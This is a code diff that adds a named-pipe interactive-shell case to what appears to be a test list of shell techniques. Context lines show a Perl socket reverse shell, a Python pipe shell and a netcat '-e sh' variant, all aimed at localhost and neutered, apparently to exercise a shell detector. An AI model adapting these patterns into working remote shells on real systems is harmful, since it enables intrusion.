@@ -35,6 +35,8 @@ _SERVED: Final = (
     'threading.Thread(target=lambda: server.accept()[0].sendall(b"exit\\n"), daemon=True).start()\n'
     'quiet = {"stdin": subprocess.DEVNULL, "stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}\n'
 )
+_PIPED: Final = frozenset({"Shell without a script driven through pipes"})
+_FIFO: Final = "mkfifo /tmp/mozu-fifo; sh -i < /tmp/mozu-fifo 2>&1 | cat > /dev/null & echo exit > /tmp/mozu-fifo; wait"
 _PERL: Final = (
     "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in($ARGV[0], inet_aton(q(127.0.0.1))));"
     "open(STDIN, q(<&S)); open(STDOUT, q(>&S)); exec(q(sh));"
@@ -85,6 +87,11 @@ SHELLS: Final = (
     ),
     _shell("perl", _SERVED + f"subprocess.run(['/usr/bin/perl', '-e', '{_PERL}', str(port)], **quiet)"),
     _shell("python", "far, near = connected()\nsubprocess.run(['sh'], stdin=far, stdout=far, stderr=far)"),
+    _shell(
+        "a named pipe",
+        f"subprocess.run(['sh', '-c', '{_FIFO}; : MARK'])\nos.unlink('/tmp/mozu-fifo')",
+        _PIPED,
+    ),
     _shell(
         "netcat",
         "shutil.copy('/usr/bin/true', '/tmp/nc')\nsubprocess.run(['/tmp/nc', '-e', 'sh', '127.0.0.1', '9'])\n"
